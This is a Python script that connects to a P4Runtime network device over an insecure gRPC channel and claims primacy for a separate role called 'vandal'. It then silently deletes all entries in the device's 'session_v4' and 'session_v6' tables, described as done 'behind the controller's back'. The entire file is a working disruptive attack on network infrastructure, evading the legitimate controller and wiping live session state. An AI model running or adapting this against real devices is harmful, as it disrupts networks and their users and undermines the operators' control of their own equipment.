"""Delete all session entries of an NPU behind the controller's back: ``unwing ADDRESS DEVICE``.

The controller is the primary client for the default role and stays so: this one has a role of its
own. Prints how many entries there were.
"""

from __future__ import annotations

import sys
import threading
from collections.abc import Iterator

import grpc
from finsy.proto import p4r, p4r_grpc

ROLE = "vandal"


def main(address: str, device: int) -> None:
    """Become primary for the role, read, delete."""
    is_over = threading.Event()
    with grpc.insecure_channel(address) as channel:
        npu = p4r_grpc.P4RuntimeStub(channel)
        stream = npu.StreamChannel(_requests(device, is_over))
        if next(stream).arbitration.status.code:
            sys.exit("the NPU has a primary client for this role")
        print(f"{_delete(npu, device)} entries deleted")
        is_over.set()


def _requests(device: int, is_over: threading.Event) -> Iterator[p4r.StreamMessageRequest]:
    request = p4r.StreamMessageRequest()
    request.arbitration.device_id = device
    request.arbitration.role.name = ROLE
    request.arbitration.election_id.low = 1
    yield request
    is_over.wait()


def _delete(npu: p4r_grpc.P4RuntimeStub, device: int) -> int:
    program = npu.GetForwardingPipelineConfig(
        p4r.GetForwardingPipelineConfigRequest(
            device_id=device,
            response_type=p4r.GetForwardingPipelineConfigRequest.P4INFO_AND_COOKIE,
        )
    )
    everything = p4r.ReadRequest(device_id=device)
    for table in program.config.p4info.tables:
        if table.preamble.alias in ("session_v4", "session_v6"):
            everything.entities.add().table_entry.table_id = table.preamble.id
    deletes = p4r.WriteRequest(device_id=device, role=ROLE)
    deletes.election_id.low = 1
    for part in npu.Read(everything):
        for entity in part.entities:
            old = entity.table_entry
            if not old.is_default_action:
                entry = deletes.updates.add(type=p4r.Update.DELETE).entity.table_entry
                entry.table_id = old.table_id
                entry.match.extend(old.match)
    npu.Write(deletes)
    return len(deletes.updates)


main(sys.argv[1], int(sys.argv[2]))
